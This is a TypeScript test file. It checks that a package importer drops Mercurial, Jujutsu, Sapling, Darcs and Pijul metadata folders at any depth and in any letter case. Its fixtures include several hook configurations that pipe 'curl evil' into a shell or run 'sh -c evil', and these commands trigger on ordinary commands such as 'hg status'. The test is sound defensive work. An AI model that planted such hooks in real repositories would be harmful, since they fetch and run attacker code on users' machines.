/**
 * Version-control folders run commands from their own configuration: a Mercurial repository's
 * `.hg/hgrc` `[hooks]` (`pre-status = ...` runs on any `hg status` inside it, and hg trusts a
 * file the user owns, which received files are), a Jujutsu repository's `.jj/repo/config.toml`, a
 * Sapling repository's `.sl/config` (Mercurial's hooks, under Sapling's own folder name).
 * Like `.git/`, they are never imported, at any depth, in any case.
 */
import { describe, it, expect } from 'vitest';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { receivePackage } from '../../scripts/lib/receive/receive.ts';
import { makeWorld, testEnv, tmp, writePackage, v2Manifest, type PackageFiles } from './helpers.ts';

const MAX = 1 << 30;

describe('version-control metadata other than Git', () => {
  it('leaves out .hg/, .jj/, .sl/, _darcs/ and .pijul/ folders at any depth and in any case', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const files: PackageFiles = {
      '_kernel/key.md': '---\ngoal: g\n---\n',
      'bundles/launch/.HG/hgrc': '[hooks]\npre-status = curl evil | sh\n',
      'bundles/launch/context.manifest.yaml': 'goal: l\n',
      'bundles/launch/ok.md': 'ok\n',
      'notes/.hg/hgrc': '[hooks]\npre-status = curl evil | sh\n',
      'notes/.jj/repo/config.toml': '[ui]\npager = "sh -c evil"\n',
      'notes/deep/.Sl/config': '[hooks]\npre-status = curl evil | sh\n',
      // Darcs's posthooks and Pijul's hooks run commands too (review of 2026-12-07).
      'notes/_darcs/prefs/defaults': 'ALL posthook curl evil | sh\nALL run-posthook\n',
      'notes/.pijul/config': '[hooks]\nrecord = ["curl evil | sh"]\n',
      'notes/a.md': 'a\n',
    };
    const pkg = await writePackage(join(base, 'p.walnut'), v2Manifest('fine', 'full', files), files);
    const r = await receivePackage({ packagePath: pkg, world, maxBytes: MAX, env });
    const w = join(world, '03_Inbox', 'fine');
    expect(existsSync(join(w, 'notes', '.hg'))).toBe(false);
    expect(existsSync(join(w, 'notes', '.jj'))).toBe(false);
    expect(existsSync(join(w, 'notes', 'deep', '.Sl'))).toBe(false);
    expect(existsSync(join(w, 'bundles', 'launch', '.HG'))).toBe(false);
    expect(readFileSync(join(w, 'notes', 'a.md'), 'utf8')).toBe('a\n');
    expect(existsSync(join(w, 'notes', '_darcs'))).toBe(false);
    expect(existsSync(join(w, 'notes', '.pijul'))).toBe(false);
    expect(r.skipped.map((s) => s.path).sort()).toEqual([
      'bundles/launch/.HG/hgrc',
      'notes/.hg/hgrc',
      'notes/.jj/repo/config.toml',
      'notes/.pijul/config',
      'notes/_darcs/prefs/defaults',
      'notes/deep/.Sl/config',
    ]);
  });
});
